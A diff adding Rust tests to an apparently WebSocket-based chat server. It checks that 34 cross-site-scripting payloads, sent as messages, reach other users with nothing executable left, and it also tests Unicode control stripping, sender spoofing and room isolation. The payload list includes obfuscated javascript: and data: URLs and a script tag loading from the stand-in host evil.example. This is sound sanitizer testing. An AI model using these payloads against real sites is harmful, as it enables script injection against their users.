@@ -160,3 +160,204 @@ async fn bad_messages_get_their_error_codes_and_reach_nobody() {
 }
 
 use futures_util::SinkExt;
+
+/// Everything the HTML5 tokenizer finds in `html` that could run script: tags that execute or
+/// embed, event-handler attributes, and script-bearing URLs. Plain tags are listed as `<tag>`.
+fn dangerous(html: &str) -> Vec<String> {
+    use html5ever::tendril::StrTendril;
+    use html5ever::tokenizer::{
+        BufferQueue, TagKind, Token, TokenSink, TokenSinkResult, Tokenizer, TokenizerOpts,
+    };
+    use std::cell::RefCell;
+
+    struct Sink(RefCell<Vec<String>>);
+    impl TokenSink for Sink {
+        type Handle = ();
+        fn process_token(&self, token: Token, _line: u64) -> TokenSinkResult<()> {
+            if let Token::TagToken(tag) = token {
+                if tag.kind == TagKind::StartTag {
+                    let name = tag.name.to_string().to_ascii_lowercase();
+                    self.0.borrow_mut().push(format!("<{name}>"));
+                    for a in tag.attrs {
+                        let attr = a.name.local.to_string().to_ascii_lowercase();
+                        let value: String = a
+                            .value
+                            .chars()
+                            .filter(|c| !c.is_whitespace() && !c.is_control())
+                            .collect::<String>()
+                            .to_ascii_lowercase();
+                        let url_attr = matches!(
+                            &*attr,
+                            "href"
+                                | "src"
+                                | "action"
+                                | "formaction"
+                                | "xlink:href"
+                                | "data"
+                                | "srcdoc"
+                                | "background"
+                                | "poster"
+                        );
+                        if attr.starts_with("on")
+                            || attr == "style"
+                            || (url_attr
+                                && ["javascript:", "data:", "vbscript:"]
+                                    .iter()
+                                    .any(|p| value.starts_with(p)))
+                        {
+                            self.0.borrow_mut().push(format!("{name} {attr}={value}"));
+                        }
+                    }
+                }
+            }
+            TokenSinkResult::Continue
+        }
+    }
+    let tok = Tokenizer::new(Sink(RefCell::new(Vec::new())), TokenizerOpts::default());
+    let q = BufferQueue::default();
+    q.push_back(StrTendril::from(html));
+    let _ = tok.feed(&q);
+    tok.end();
+    let found = tok.sink.0.borrow().clone();
+    found
+}
+
+const XSS: [&str; 34] = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<img src=x onerror=alert(1)>",
+    "<IMG SRC=x OnErRoR=alert(1)>",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
+    "<a href=\"javascript:alert(1)\">x</a>",
+    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
+    "<a href=\"&#106;avascript:alert(1)\">x</a>",
+    "<a href=\"&#x6A;&#x61;&#x76;&#x61;script:alert(1)\">x</a>",
+    "<a href=\" javascript:alert(1)\">x</a>",
+    "<a href=\"java\tscript:alert(1)\">x</a>",
+    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
+    "<iframe src=\"javascript:alert(1)\"></iframe>",
+    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
+    "<object data=\"javascript:alert(1)\"></object>",
+    "<embed src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
+    "<body onload=alert(1)>",
+    "<details open ontoggle=alert(1)>",
+    "<form><button formaction=\"javascript:alert(1)\">x</button></form>",
+    "<input autofocus onfocus=alert(1)>",
+    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+    "<style><img src=x onerror=alert(1)></style>",
+    "<style>@import 'javascript:alert(1)';</style>",
+    "<div style=\"background:url(javascript:alert(1))\">x</div>",
+    "<img src=x onerror=alert(1)",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
+    "<base href=\"javascript:alert(1)//\">",
+    "<template><img src=x onerror=alert(1)></template>",
+];
+
+async fn deliver_all(mode: &'static str) -> Vec<(String, Option<String>)> {
+    let s = Server::start_with(&Opts {
+        sanitize_mode: mode,
+        ..Opts::default()
+    });
+    let mut a = s.join("alice", "lobby").await;
+    let mut b = s.join("bob", "lobby").await;
+    let mut out = Vec::new();
+    for (i, payload) in XSS.iter().enumerate() {
+        let id = i.to_string();
+        send_json(&mut a, json!({"type":"message","text":payload,"id":id})).await;
+        let reply = recv_json(&mut a).await;
+        assert_eq!(reply["id"], id.as_str());
+        let delivered = if reply["type"] == "ack" {
+            let m = recv_json(&mut b).await;
+            assert_eq!(m["seq"], reply["seq"]);
+            Some(m["text"].as_str().unwrap().to_string())
+        } else {
+            assert_eq!(reply["code"], "empty", "{payload}: {reply}");
+            None
+        };
+        out.push((payload.to_string(), delivered));
+    }
+    expect_silence(&mut b, 200).await;
+    out
+}
+
+#[tokio::test]
+async fn thirty_xss_payloads_arrive_with_nothing_that_can_run_in_strip_mode() {
+    for (payload, delivered) in deliver_all("strip").await {
+        if let Some(text) = delivered {
+            // Strip mode: a parser finds no tag at all, only text.
+            assert_eq!(
+                dangerous(&text),
+                Vec::<String>::new(),
+                "{payload} -> {text}"
+            );
+        }
+    }
+}
+
+#[tokio::test]
+async fn thirty_xss_payloads_arrive_with_nothing_that_can_run_in_basic_mode() {
+    let allowed = ["<b>", "<i>", "<em>", "<strong>", "<code>", "<pre>", "<a>"];
+    for (payload, delivered) in deliver_all("basic").await {
+        if let Some(text) = delivered {
+            for found in dangerous(&text) {
+                assert!(
+                    allowed.contains(&found.as_str()),
+                    "{payload} -> {text}: {found}"
+                );
+            }
+        }
+    }
+}
+
+#[test]
+fn the_xss_checker_itself_catches_script() {
+    // Guard against a checker that finds nothing: raw payloads must be flagged.
+    let flagged = XSS.iter().filter(|p| !dangerous(p).is_empty()).count();
+    assert!(flagged >= 30, "only {flagged} payloads flagged raw");
+    assert_eq!(dangerous("plain &lt;b&gt; text"), Vec::<String>::new());
+}
+
+#[tokio::test]
+async fn unicode_tricks_are_removed_and_the_user_is_the_tokens() {
+    let s = Server::start();
+    let mut a = s.join("alice", "lobby").await;
+    let mut b = s.join("bob", "lobby").await;
+    let tricky = "pay\u{202E}lanigiro\u{202C} \u{2066}x\u{2069} ze\u{200B}ro\u{200D}w\u{FEFF}idth nul\u{0}l bell\u{7}";
+    send_json(
+        &mut a,
+        json!({"type":"message","text":tricky,"from":"bob","user":"admin"}),
+    )
+    .await;
+    let m = recv_json(&mut b).await;
+    assert_eq!(m["text"], "paylanigiro x zerowidth null bell");
+    assert_eq!(m["from"], "alice");
+}
+
+#[tokio::test]
+async fn a_client_cannot_reach_another_room() {
+    let s = Server::start();
+    let mut a = s.join("alice", "lobby").await;
+    let mut in_lobby = s.join("bob", "lobby").await;
+    let mut in_secret = s.join("carol", "secret").await;
+    send_json(
+        &mut a,
+        json!({"type":"message","text":"hi","room":"secret"}),
+    )
+    .await;
+    send_json(
+        &mut a,
+        json!({"type":"message","text":"hi","to":"carol","rooms":["secret"]}),
+    )
+    .await;
+    for _ in 0..2 {
+        let m = recv_json(&mut in_lobby).await;
+        assert_eq!(m["room"], "lobby");
+    }
+    expect_silence(&mut in_secret, 300).await;
+}
